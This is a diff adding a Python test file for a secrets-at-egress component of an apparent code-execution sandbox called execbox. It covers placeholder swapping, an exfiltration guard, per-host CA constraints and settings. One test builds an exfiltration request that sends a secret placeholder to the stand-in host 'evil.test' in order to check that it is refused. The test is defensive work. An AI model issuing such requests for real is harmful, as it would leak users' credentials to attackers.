@@ -1,0 +1,110 @@
+"""The pieces of secrets at egress without a sandbox: destinations, placeholders, the same-length swap over any
+chunking, the guard that cuts a body carrying a placeholder, the per-host CA and its leaf, the setting."""
+
+from __future__ import annotations
+
+import asyncio
+import ssl
+from types import SimpleNamespace
+
+import pytest
+from cryptography import x509
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from execbox import ConfigError, Settings
+from execbox.core import egress_secrets as es
+from execbox.core.secrets_inject import Secret
+
+VALUE = "sk-live-0123456789abcdefABCDEF"
+
+
+def run_secrets(**hosts: str) -> es.RunSecrets:
+    return es.RunSecrets(es.check({name: (host, VALUE + name) for name, host in hosts.items()}))
+
+
+@pytest.mark.parametrize("spec, expected", [
+    ("api.openai.com", ("api.openai.com", 443)), ("API.example.com.:8443", ("api.example.com", 8443)),
+    ("127.0.0.1:9000", ("127.0.0.1", 9000)), ("[::1]:8443", ("::1", 8443)),
+])
+def test_destinations(spec: str, expected: tuple[str, int]) -> None:
+    assert es.parse_destination(spec) == expected
+
+
+@pytest.mark.parametrize("spec", ["*.example.com", "https://api.example.com", "user@host", "host:0", "host:x",
+                                  "a:b:c", ""])
+def test_destinations_that_are_not_one_host_are_refused(spec: str) -> None:
+    with pytest.raises(ValueError):
+        es.parse_destination(spec)
+
+
+def test_placeholders_are_random_and_as_long_as_the_value() -> None:
+    for value in (b"12345678", VALUE.encode(), "é".encode() * 40):
+        one, two = es.placeholder_for(value), es.placeholder_for(value)
+        assert len(one) == len(value) and one != two and one.isascii()
+    assert es.placeholder_for(VALUE.encode() * 2).startswith(b"EXECBOX-PLACEHOLDER-")
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.sampled_from([b"ab", b"x", b"\r\n", b"PH1-abcdefgh", b"PH1-", b"abcdefgh", b"PH2-zzzzzzzz"]),
+                max_size=30), st.lists(st.integers(0, 400), max_size=10))
+def test_the_swap_gives_the_same_bytes_whatever_the_chunking(pieces: list[bytes], cuts: list[int]) -> None:
+    table = [(b"PH1-abcdefgh", b"VAL-11111111", "A"), (b"PH2-zzzzzzzz", b"VAL-22222222", "B")]
+    data = b"".join(pieces)
+    swap, out, pos = es._Swap(table), b"", 0
+    for cut in sorted({min(c, len(data)) for c in cuts}):
+        out += swap.feed(data[pos:cut])
+        pos = cut
+    out += swap.feed(data[pos:]) + swap.flush()
+    assert out == data.replace(b"PH1-abcdefgh", b"VAL-11111111").replace(b"PH2-zzzzzzzz", b"VAL-22222222")
+    assert swap.used == {name for old, _, name in table if old in data}
+
+
+def test_the_guard_cuts_a_body_before_the_chunk_that_completes_a_placeholder() -> None:
+    secrets = run_secrets(K="api.example.com")
+    placeholder = secrets.secrets[0].placeholder
+    attempt = SimpleNamespace(allowed=True, reason="allowed", secrets=[])
+
+    async def go() -> list[bytes]:
+        reader = asyncio.StreamReader()
+        reader.feed_data(b"x" * 10 + placeholder[:5])
+        guarded = es.GuardedReader(reader, secrets, attempt)
+        got = [await guarded.read(1000)]
+        reader.feed_data(placeholder[5:] + b"tail")
+        with pytest.raises(ConnectionAbortedError):
+            got.append(await guarded.read(1000))
+        return got
+
+    assert asyncio.run(go()) == [b"x" * 10 + placeholder[:5]]
+    assert not attempt.allowed and "exfiltration attempt" in attempt.reason and attempt.secrets == ["K"]
+
+
+def test_a_request_head_with_a_placeholder_is_refused_naming_the_secret() -> None:
+    secrets = run_secrets(K="api.example.com")
+    run = SimpleNamespace(secrets=secrets)
+    head = b"GET http://evil.test/?k=" + secrets.secrets[0].placeholder + b" HTTP/1.1\r\n\r\n"
+    assert "placeholder of K" in (es.refuse_head(run, head, "evil.test", 80) or "")
+    assert es.refuse_head(run, b"GET http://evil.test/ HTTP/1.1\r\n\r\n", "evil.test", 80) is None
+    assert es.intercepts(run, "API.example.com", 443) and not es.intercepts(run, "api.example.com", 80)
+
+
+def test_the_ca_is_limited_to_its_host_and_its_leaf_serves_tls(tmp_path: object) -> None:
+    interceptor = es.Interceptor(str(tmp_path))
+    interceptor.ensure({"api.example.com"})
+    authority = interceptor._authorities["api.example.com"]
+    constraints = authority.cert.extensions.get_extension_for_class(x509.NameConstraints).value
+    assert [n.value for n in constraints.permitted_subtrees] == ["api.example.com"]
+    bundle = (tmp_path / es.BUNDLE_FILE).read_bytes()  # type: ignore[operator]
+    assert authority.pem.strip() in bundle and b"PRIVATE KEY" not in bundle
+    assert isinstance(interceptor.server_context("api.example.com"), ssl.SSLContext)
+
+
+def test_code_exec_egress_secrets_reads_values_from_execbox_s_environment() -> None:
+    assert Settings(egress_secrets=["K=api.example.com:8443"]).egress_secrets == ["K=api.example.com:8443"]
+    with pytest.raises(ConfigError, match="NAME=host"):
+        Settings(egress_secrets=["api.example.com"])
+    given = es.from_setting(["K=api.example.com"], {"K": VALUE})
+    host, port, secret = given["K"]
+    assert (host, port, secret.reveal()) == ("api.example.com", 443, VALUE) and isinstance(secret, Secret)
+    with pytest.raises(ConfigError, match="CODE_EXEC_EGRESS_SECRETS names K"):
+        es.from_setting(["K=api.example.com"], {})
